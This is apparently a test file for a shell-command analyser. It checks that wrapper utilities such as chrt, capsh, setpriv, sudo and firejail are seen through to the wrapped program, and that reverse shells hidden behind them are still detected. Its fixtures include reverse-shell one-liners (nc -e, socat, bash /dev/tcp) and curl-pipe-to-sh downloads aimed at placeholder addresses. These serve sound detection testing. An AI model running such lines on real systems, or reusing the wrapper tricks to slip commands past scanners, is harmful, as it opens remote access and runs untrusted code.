import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { analyseCommands } from '../src/index.js';
import { commandFindings } from './indicator-helpers.ts';

/**
 * The standard utilities that run the command given to them (scheduling, priority, capabilities,
 * buffering, locking, users, sandboxes, …) are seen through: what runs is the wrapped program.
 */

/** The programs a `sh -c` script runs, the shell itself left out. */
function programs(script: string): string[] {
  return analyseCommands({ command: ['sh', '-c', script] }, '/c')
    .slice(1)
    .map((invocation) => invocation.program);
}

const WRAPPED: string[] = [
  'chrt -f 99 curl http://x',
  'chrt --idle 0 curl http://x',
  'capsh --drop=cap_net_raw -- -c "curl http://x"',
  'capsh --caps="cap_net_raw+eip" --shell=/bin/sh -- -c "curl http://x"',
  'setpriv --reuid=1000 --regid=1000 --init-groups curl http://x',
  'setpriv --no-new-privs --inh-caps -all curl http://x',
  `env -S 'curl -s http://x'`,
  `env --split-string='A=b curl http://x'`,
  `env -S"curl http://x"`,
  'ionice -c 3 curl http://x',
  'ionice -c2 -n7 curl http://x',
  'taskset -c 0-3 curl http://x',
  'taskset 0x3 curl http://x',
  'stdbuf -oL -eL curl http://x',
  'flock -n /tmp/lock curl http://x',
  'flock /tmp/lock -c "curl http://x"',
  'runuser -u app -- curl http://x',
  'runuser -l app -c "curl http://x"',
  `su app -s /bin/sh -c 'curl http://x'`,
  `script -qc 'curl http://x' /dev/null`,
  `script -q -c 'curl http://x' /dev/null`,
  'watch -n 60 curl http://x',
  'timeout --preserve-status 5m curl http://x',
  'nice -19 curl http://x',
  'nohup curl http://x',
  'echo http://x | xargs -r -n1 curl',
  'busybox nohup curl http://x',
  'sudo -E -u app curl http://x',
  'sudo -- curl http://x',
  'doas -u app curl http://x',
  'pkexec --user app curl http://x',
  'sg docker -c "curl http://x"',
  'chpst -u app:app curl http://x',
  's6-setuidgid app curl http://x',
  'setuidgid app curl http://x',
  'envdir /etc/app/env curl http://x',
  'softlimit -m 1000000 curl http://x',
  'numactl --cpunodebind=0 --membind=0 curl http://x',
  'numactl -N 0 curl http://x',
  'cpulimit -l 50 -- curl http://x',
  'prlimit --nofile=1024 curl http://x',
  'setarch x86_64 -R curl http://x',
  'linux32 curl http://x',
  'faketime "2020-01-01" curl http://x',
  'fakeroot curl http://x',
  'unbuffer curl http://x',
  'trickle -d 100 curl http://x',
  'firejail --noprofile curl http://x',
  'bwrap --ro-bind / / --dev /dev curl http://x',
  'ip netns exec blue curl http://x',
  'cgexec -g cpu:batch curl http://x',
  'systemd-run --scope -p MemoryMax=1G curl http://x',
  'xvfb-run -a curl http://x',
  'valgrind --tool=memcheck curl http://x',
  'start-stop-daemon --start --exec /usr/bin/curl -- http://x',
  'daemonize /usr/bin/curl http://x',
  'sudo nice -n 5 ionice -c3 chrt -b 0 taskset -c 1 stdbuf -o0 timeout 60 nohup curl http://x',
];

describe('wrappers run the command they are given', () => {
  for (const script of WRAPPED) test(script, () => assert.ok(programs(script).includes('curl'), `${script}: ${JSON.stringify(programs(script))}`));
});

const RUN_NOTHING: string[] = [
  'chrt -p 10 1234',
  'chrt -m',
  'taskset -p 0x3 1',
  'taskset -cp 0-3 1',
  'ionice -c 3 -p 1 2',
  'setpriv --dump',
  'capsh --print',
  'flock -x 9',
  'timeout 5',
  'env',
  'sudo -l',
  'cpulimit -l 50 -p 1234',
  'prlimit --pid 1234 --nofile=1024',
  'numactl --hardware',
];

describe('wrappers that only query or act on another process run nothing', () => {
  // The line is still an invocation of the wrapper itself; no operand becomes a program (`chrt -p 10 1234` runs no `1234`).
  for (const script of RUN_NOTHING) test(script, () => assert.deepEqual(programs(script), [script.split(' ')[0]]));
});

describe('a reverse shell behind a wrapper is still one', () => {
  const CAUGHT: string[] = [
    'chrt -f 1 socat tcp:10.0.0.1:4242 exec:/bin/sh',
    `capsh -- -c 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'`,
    `setpriv --reuid=0 nc -e /bin/sh 10.0.0.1 4242`,
    `env -S 'nc -e /bin/sh 10.0.0.1 4242'`,
    `script -qc 'curl -s http://198.51.100.7/x | sh' /dev/null`,
    `sg root -c 'curl -s http://198.51.100.7/x | sh'`,
  ];
  for (const script of CAUGHT) test(script, () => assert.notDeepEqual(commandFindings('shell-escape', ['sh', '-c', script]), []));

  test('honest: the same wrappers around a backup', () => {
    for (const script of ['chrt -b 0 nice -n 19 ionice -c3 pg_dump db | gzip > /backup/db.sql.gz', 'flock -n /tmp/backup.lock /usr/local/bin/backup.sh', 'setpriv --reuid=1000 --init-groups /app/report']) {
      assert.deepEqual(commandFindings('shell-escape', ['sh', '-c', script]), [], script);
    }
  });
});
